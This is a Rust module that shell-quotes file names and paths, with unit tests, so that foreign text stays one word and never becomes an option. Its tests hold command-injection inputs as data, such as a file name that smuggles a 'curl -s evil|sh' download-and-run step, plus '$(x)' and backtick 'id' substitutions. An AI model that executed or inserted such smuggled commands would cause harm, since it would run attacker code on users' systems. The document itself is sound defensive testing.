//! Foreign text in a command that people paste into a shell: it stays one word, and a path stays a path.
//!
//! No name of a file or a connector may begin a command of its own, or be an option to one. Pure.

use std::os::unix::ffi::OsStrExt;
use std::path::Path;

/// A word as it is, or in quotes where a shell would read more into it.
pub fn word(text: &str) -> String {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./=:@%+,".contains(c);
    if !text.is_empty() && text.chars().all(is_plain) {
        text.to_owned()
    } else {
        String::from_utf8_lossy(&in_quotes(text.as_bytes())).into_owned()
    }
}

/// The path of a file, as a word that no command takes for an option.
pub fn path(path: &str) -> String {
    if path.starts_with('-') { word(&format!("./{path}")) } else { word(path) }
}

/// The same of a path that may not be UTF-8: what is not is escaped, as shells of today read it.
pub fn file(file: &Path) -> String {
    match file.to_str() {
        Some(text) => path(text),
        None => {
            let bytes = file.as_os_str().as_bytes();
            format!("$'{}{}'", if bytes.starts_with(b"-") { "./" } else { "" }, bytes.escape_ascii())
        }
    }
}

/// In single quotes nothing is special, not even a line's end.
pub fn in_quotes(bytes: &[u8]) -> Vec<u8> {
    let parts: Vec<_> = bytes.split(|byte| *byte == b'\'').collect();
    [b"'", parts.join(&br"'\''"[..]).as_slice(), b"'"].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_quoted_where_a_shell_would_read_more_into_it() {
        for (text, expected) in [
            (".env.local", ".env.local"),
            ("slack/acme-slack", "slack/acme-slack"),
            ("a b", "'a b'"),
            ("it's", r"'it'\''s'"),
            ("", "''"),
            ("$(x)", "'$(x)'"),
            ("~/.env", "'~/.env'"),
            (".env;curl -s evil|sh;#", "'.env;curl -s evil|sh;#'"),
            (".env\nid", "'.env\nid'"),
            (".env`id`", "'.env`id`'"),
            ("é", "'é'"),
        ] {
            assert_eq!(word(text), expected);
            assert_eq!(path(text), expected);
        }
    }

    #[test]
    fn a_path_is_no_option() {
        for (text, expected) in [("-R", "./-R"), ("--reference=x y", "'./--reference=x y'"), ("a/-R", "a/-R")] {
            assert_eq!(path(text), expected);
        }
        assert_eq!(word("-x"), "-x");
    }

    #[test]
    fn a_shell_takes_every_byte_of_a_path_as_it_is() {
        for bytes in [&b"/a/it's"[..], b"/caf\xe9/it's a \"x\" \\ $(id)", b"-\xff9", "/caf\u{e9}".as_bytes()] {
            let quoted = file(Path::new(std::ffi::OsStr::from_bytes(bytes)));
            let printed = std::process::Command::new("bash").args(["-c", &format!("printf %s {quoted}")]).output();
            let printed = printed.expect("a shell").stdout;
            assert_eq!(printed.strip_prefix(b"./").unwrap_or(&printed), bytes, "{quoted}");
        }
        assert_eq!(file(Path::new("/a b")), "'/a b'");
    }
}
